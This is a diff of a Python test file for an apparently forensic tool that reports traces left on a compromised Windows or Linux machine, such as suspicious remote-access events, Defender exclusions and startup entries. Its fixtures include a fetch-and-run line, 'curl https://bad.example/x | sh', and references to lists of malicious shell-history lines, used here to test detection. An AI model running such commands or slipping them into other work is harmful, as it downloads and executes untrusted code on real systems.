@@ -4,22 +4,20 @@ from __future__ import annotations
 
 import json
 import os
-import re
 import shutil
 import sys
 import time
+import tomllib
 from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from random import Random
 from types import SimpleNamespace
 
 import pytest
 
 from app.evidence import places
 from app.evidence.places import Places
-from app.evidence.probes import LOOKS_BACK, PROBES, UNINSTALL, _looked, look_back
-from app.evidence.remote_logs import TERMINAL
+from app.evidence.probes import LOOKS_BACK, PROBES, _looked, fetched, look_back
 from app.evidence.report import run, told
 from app.evidence.traces import Evidence, Looked, Trace
 from app.texts import Library
@@ -29,12 +27,9 @@ from tests.evidence.test_remote_logs import SAMPLES
 
 FAR = datetime(9999, 12, 31, 23, 59, tzinfo=UTC)
 OLD = NOW - timedelta(days=30)
-USER, PC = "HKEY_CURRENT_USER", "HKEY_LOCAL_MACHINE"
-VERSION, DEFENDER = r"Software\Microsoft\Windows\CurrentVersion", rf"{PC}\SOFTWARE\Microsoft\Windows Defender"
+EXCLUDED = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
 CURL, DPKG = "curl https://bad.example/x | sh", "%Y-%m-%d %H:%M:%S install came"
 FETCHING = [line for line in COPIED["malicious"] if "//" in line]
-NAMES = ("AnyDesk", "ウイルス駆除 2026", "Support-Tool (x64) 1.0", "Ｏｆｆｉｃｅ", "PC Cleaner & Booster", "é-Lève")
-BROWSERS = ("Google/Chrome", "Microsoft/Edge", "BraveSoftware/Brave-Browser")
 RULE = {"setting": 1, "last_modified": str(since_1601(NOW))}
 PAGES = {"https://bad.example:443,*": RULE, "https://no.example:443,*": RULE | {"setting": 2}}
 PREFERENCES = json.dumps({"profile": {"content_settings": {"exceptions": {"notifications": PAGES}}}})
@@ -60,50 +55,31 @@ def own_log(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(places, "_listed", lambda folder, name: listed(folder.replace("/var/log", f"{home}/log"), name))
 
 
-def leave(dice: Random, home: Path, staged: SimpleNamespace) -> dict[str, set[str]]:
-    """What a criminal leaves on Windows, beside what was there; returns what is to be told of it."""
-    at, (new, gone, own) = NOW - timedelta(minutes=dice.randint(30, 2800)), dice.sample(NAMES, 3)
-    (typed, *lines), page = dice.sample(FETCHING, 4), f"https://n{dice.random()}.example"
-    file, content, other, _ = SAMPLES[dice.choice([*SAMPLES])]
-    number = re.sub(r"\d", lambda _: dice.choice("123456789"), other)
-    put(home, file, f"\r\n{content}".replace(other, number), dice.choice(["utf-8", "utf-16"]))
-    put(home, "APPDATA/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "\n".join(["dir", *lines]))
-    put(home, f"APPDATA/Microsoft/Windows/Start Menu/Programs/Startup/{gone}.lnk", "")
-    profile = f"LOCALAPPDATA/{dice.choice(BROWSERS)}/User Data/Profile {dice.randint(1, 9)}"
-    put(home, f"{profile}/Preferences", PREFERENCES.replace("https://bad.example:443", page))
-    staged.keys |= {
-        rf"{dice.choice(UNINSTALL)}\{{A}}": ({"DisplayName": new}, at),
-        rf"{dice.choice(UNINSTALL)}\B": ({"DisplayName": own}, OLD),
-        rf"{USER}\{VERSION}\Explorer\RunMRU": ({"a": f"{typed}\\1", "b": "cmd\\1", "MRUList": "ab"}, at),
-        rf"{dice.choice([USER, PC])}\{VERSION}\{dice.choice(['Run', 'RunOnce'])}": ({"OneDrive": "x", new: "y"}, at),
-        rf"{PC}\SYSTEM\CurrentControlSet\Control\Terminal Server": ({"fDenyTSConnections": 0}, OLD),
-        rf"{DEFENDER}\Exclusions\{dice.choice(['Paths', 'Processes', 'Extensions'])}": ({new: 0}, OLD),
-    }
-    log, changed = "Microsoft-Windows-Windows Defender", rf"HKLM\SOFTWARE\…\Exclusions\Paths\{own} = 0x0"
-    client, address = f"thief{dice.random()}@example.com", f"192.0.2.{dice.randint(1, 254)}"
-    off, but = event(log, 5001, at, "Microsoft Defender"), event(log, 5007, at, "Microsoft Defender", changed)
-    began = [event(TERMINAL, dice.choice([21, 25]), at, "PC\\hanako", "2", who) for who in ("ローカル", address)]
-    removed, came = event("MsiInstaller", 1034, at, gone, "16.0"), event("chromoting", 1, at, f"{client}/ftl_1")
-    staged.events |= {"Application": [removed, came], f"{log}/Operational": [off, but]}
-    staged.events[f"{TERMINAL}/Operational"] = began
-    told = {"connections": {number, client, address}, "programs": {new, gone}, "typed": {typed[:80]}}
-    told |= {
-        "fetched": {" ".join(line[:320].split())[:80] for line in lines},
-        "starts": {f"OneDrive, {new}", f"{gone}.lnk"},
-    }
-    return told | {"remote_desktop": {""}, "protection": {new, "", f"{own} = 0x0"}, "notices": {page}}
-
-
 @pytest.mark.linux("its files were made before they were written")
-@pytest.mark.parametrize("seed", range(10))
-def test_what_was_left_on_windows_is_told_and_nothing_else(windows: SimpleNamespace, home: Path, seed: int) -> None:
-    """Sixteen traces each, over all probes."""
-    expected = leave(Random(seed), home, windows)
-    assert found(look_back()) == expected
-    windows.keys[rf"{DEFENDER}\Exclusions\Paths"] = windows.events["Application"] = None
+def test_what_was_left_on_windows_is_told_and_nothing_else(windows: SimpleNamespace, home: Path) -> None:
+    left = tomllib.loads(Path(__file__).with_name("windows.toml").read_text(encoding="utf-8"))
+    for name, content in left["files"].items():
+        put(home, name, content.replace("{now}", str(since_1601(NOW))))
+    for name, content, _, _ in SAMPLES.values():
+        put(home, name, f"\r\n{content}", "utf-16")
+    windows.keys |= {key: (values, NOW) for key, values in left["new"].items()}
+    windows.keys |= {key: (values, OLD) for key, values in left["old"].items()}
+    for one in left["events"]:
+        noted = event(one["provider"], one["id"], NOW, *one["values"])
+        windows.events.setdefault(one["channel"], []).append(noted)
+    assert found(look_back()) == {probe: {*names} for probe, names in left["told"].items()}
+    windows.keys[EXCLUDED] = windows.events["Application"] = None
     evidence = {looked.probe: looked.closed for looked in look_back() if looked.closed}
     assert evidence["connections"] == ("Application: chromoting",), "that it could not look is a result"
     assert {*evidence} == {"connections", "programs", "protection"}
+
+
+@pytest.mark.linux("a home as it has it")
+def test_a_line_that_fetches_is_told_and_what_stands_beside_it_is_not(home: Path) -> None:
+    for line in FETCHING:
+        put(home, ".bash_history", f"ls\n{line}\ncd\n")
+        told_of = fetched(Places(OLD, time.monotonic() + 9))
+        assert [trace.what for trace in told_of] == [" ".join(line.split())[:80]]
 
 
 @pytest.mark.linux("kinds of files")
